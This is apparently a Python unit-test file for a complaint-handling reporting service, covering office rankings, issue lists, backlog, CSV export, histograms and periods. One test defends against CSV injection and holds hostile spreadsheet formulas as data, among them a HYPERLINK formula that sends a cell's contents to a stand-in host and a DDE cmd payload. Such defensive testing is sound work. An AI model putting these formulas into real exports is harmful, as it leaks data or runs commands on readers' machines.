"""Rankings, the three lists, the backlog, histograms and periods: pure rules, by hand."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest

from services.contracts.regions import stem
from services.contracts.vocabulary import Satisfaction
from services.reporting.domain import lists
from services.reporting.domain.durations import age_buckets, histogram
from services.reporting.domain.period import Period
from services.reporting.domain.rankings import Weights, named, office_name, office_of, rank
from services.reporting.domain.rates import Rates
from services.reporting.entrypoints.query import PeriodKind
from tests.reporting_events import Story
from tests.unit.reporting.reporting_fold import view

T0 = datetime(2026, 11, 23, 1, 0, tzinfo=UTC)
HAPPY, UNHAPPY = Satisfaction.SATISFIED, Satisfaction.DISSATISFIED


def fact(story: Story) -> dict[str, Any]:
    return view(story.events) | {"issue_id": story.id}


def by_office(f: Any) -> str | None:
    return f["office_id"] if f["assigned"] else None


def test_offices_are_ranked_on_the_weighted_score_with_shared_ranks() -> None:
    facts = [
        # a: accepted on time, visited solved and satisfied → 1, 1, 1
        fact(Story("a1", T0).triage().assign("a").accept(1).resolve(1).visit(HAPPY, True, 1)),
        # b: on time; dissatisfied and unsolved → 1, 0, 0
        fact(Story("b1", T0).triage().assign("b").accept(1).resolve(1).visit(UNHAPPY, False, 1)),
        # c: late accept, never visited → response 0 only
        fact(Story("c1", T0).triage().assign("c").accept(30)),
        # d: the same as b → shares b's rank
        fact(Story("d1", T0).triage().assign("d").accept(1).resolve(1).visit(UNHAPPY, False, 1)),
    ]
    weights = Weights(response=0.2, resolution=0.4, satisfaction=0.4)
    rows = rank(facts, by_office, weights)
    assert [(r.rank, r.id, r.score) for r in rows] == [
        (1, "a", 1.0),
        (2, "b", 0.2),  # 0.2×1 + 0.4×0 + 0.4×0
        (2, "d", 0.2),
        (4, "c", 0.0),  # only the response rate has a base: 0 / 0.2
    ]
    assert (rows[0].assigned, rows[0].visited) == (1, 1)


def test_a_unit_without_any_rate_comes_last_without_a_score() -> None:
    facts = [
        fact(Story("x", T0, direct=True).answer(0.1)),  # no office
        fact(Story("y", T0).triage().assign("late")),  # assigned, not accepted: response 0
    ]
    weights = Weights(1, 1, 1)
    assert Weights(0, 0, 1).score(Rates(1, 0, 1, 1, 0, 0, 0, 0, 0, 0, 0)) is None
    assert [(r.id, r.score) for r in rank(facts, by_office, weights)] == [("late", 0.0)]
    with pytest.raises(ValueError):
        Weights(0, 0, 0)


def test_the_three_lists_and_the_backlog() -> None:
    problem = Story("p", T0).triage().assign("o").accept(1).resolve(5, "换了灯泡")
    problem.visit(HAPPY, True, 1)
    duplicate = Story("d", T0 + timedelta(minutes=1)).merge_into(problem, 0.1)
    waiting = Story("w", T0 + timedelta(minutes=2)).triage().assign("o")
    direct = Story("a", T0 + timedelta(minutes=3), direct=True).answer(0.1)
    facts = [fact(s) for s in (problem, duplicate, waiting, direct)]
    merged = {"p": 1}
    assert [(r["issue_id"], r["merged_reports"]) for r in lists.problems(facts, merged)] == [
        ("p", 1), ("w", 0), ("a", 0)
    ]  # fmt: skip
    assert [r["issue_id"] for r in lists.tasks(facts)] == ["p", "w"]
    assert [(r["issue_id"], r["result"], r["solved"]) for r in lists.results(facts)] == [
        ("p", "换了灯泡", True)
    ]
    now = T0 + timedelta(days=31)
    backlog = lists.backlog(facts, now, min_age_days=30)
    assert [(r["issue_id"], r["state"]) for r in backlog] == [("w", "assigned")]
    assert lists.backlog(facts, now, min_age_days=32) == []
    csv = lists.as_csv(lists.tasks(facts), lists.TASK_COLUMNS).splitlines()
    assert csv[0].split(",") == lists.TASK_COLUMNS
    assert csv[1].startswith("p,2026-11-23T01:00:00+00:00,street_lighting,411901001001,")


def test_csv_cells_that_start_like_a_formula_are_text_in_a_spreadsheet() -> None:
    """An office's result is free text: `=HYPERLINK(…)` in it ran when a leader opened the
    results list in a spreadsheet (CSV injection)."""
    rows: list[dict[str, Any]] = [
        {"issue_id": "a", "result": '=HYPERLINK("http://evil.example/?"&A1,"详情")'},
        {"issue_id": "b", "result": "+1+cmd|' /C calc'!A0"},
        {"issue_id": "c", "result": "@SUM(A1)", "reopens": -1},
        {"issue_id": "d", "result": "-2+3", "reopens": 0},
        {"issue_id": "e", "result": "\t=1", "co_office_ids": ["=x", "y"]},
        {"issue_id": "f", "result": "已修复 = 正常", "resolved_on_time": True},
    ]
    columns = ["issue_id", "result", "reopens", "resolved_on_time", "co_office_ids"]
    parsed = list(csv.DictReader(io.StringIO(lists.as_csv(rows, columns))))
    assert [r["result"] for r in parsed] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"详情")',
        "'+1+cmd|' /C calc'!A0",
        "'@SUM(A1)",
        "'-2+3",
        "'\t=1",
        "已修复 = 正常",
    ]
    assert [r["reopens"] for r in parsed] == ["", "", "-1", "0", "", ""]  # numbers stay numbers
    assert parsed[4]["co_office_ids"] == "'=x;y" and parsed[5]["resolved_on_time"] == "true"


def test_percentiles_are_exact_to_a_bucket() -> None:
    counts = {"1": 5, "4": 3, "+Inf": 2}  # 10 durations
    h = histogram(counts, (1, 2, 4))
    assert [b["cumulative"] for b in h["buckets"]] == [5, 5, 8, 10]
    assert (h["count"], h["p50_le"], h["p90_le"]) == (10, "1", "+Inf")
    assert histogram({}, (1, 2))["p50_le"] is None
    assert age_buckets([0.5, 3, 40], (1, 3, 30)) == [
        {"le_days": "1", "count": 1}, {"le_days": "3", "count": 1},
        {"le_days": "30", "count": 0}, {"le_days": "+Inf", "count": 1},
    ]  # fmt: skip


def period_days(kind: PeriodKind, on: date) -> tuple[date, date]:
    """The one period arithmetic (domain/period.py), as the reads' `period` and `on` use it."""
    around = Period.around(kind.value, on)
    return around.start, around.end


def test_periods_around_a_day() -> None:
    on = date(2026, 11, 25)  # a Wednesday
    assert period_days(PeriodKind.DAY, on) == (on, on)
    assert period_days(PeriodKind.WEEK, on) == (date(2026, 11, 23), date(2026, 11, 29))
    assert period_days(PeriodKind.MONTH, on) == (date(2026, 11, 1), date(2026, 11, 30))


def test_the_administrative_stem_of_a_region() -> None:
    assert [stem(c) for c in ("410000", "411900", "411901", "411901002")] == [
        "41", "4119", "411901", "411901002"
    ]  # fmt: skip


def test_ties_share_a_rank_and_the_unit_that_handled_more_comes_first() -> None:
    facts = [
        # z handled two issues, a and m one each: all three on time, every rate 1
        fact(Story("z1", T0).triage().assign("z").accept(1).resolve(1).visit(HAPPY, True, 1)),
        fact(Story("z2", T0).triage().assign("z").accept(1).resolve(1).visit(HAPPY, True, 1)),
        fact(Story("m1", T0).triage().assign("m").accept(1).resolve(1).visit(HAPPY, True, 1)),
        fact(Story("a1", T0).triage().assign("a").accept(1).resolve(1).visit(HAPPY, True, 1)),
        fact(Story("b1", T0).triage().assign("b").accept(30)),  # late: response 0
    ]
    rows = rank(facts, by_office, Weights(1, 1, 1))
    assert [(r.rank, r.id, r.score, r.assigned) for r in rows] == [
        (1, "z", 1.0, 2),  # the most handled first among the tied
        (1, "a", 1.0, 1),  # then by id
        (1, "m", 1.0, 1),
        (4, "b", 0.0, 1),  # "1, 1, 1, 4"
    ]


def test_offices_are_named_from_the_events_and_by_id_without_a_name() -> None:
    facts = [
        fact(Story("n1", T0).triage().assign("water", office_name="水务局").accept(1)),
        fact(Story("o1", T0).triage().assign("roads", office_name="").accept(1)),
    ]
    rows = named(rank(facts, office_of, Weights(1, 1, 1), office_name))
    assert [(r.id, r.name) for r in rows] == [("roads", "roads"), ("water", "水务局")]
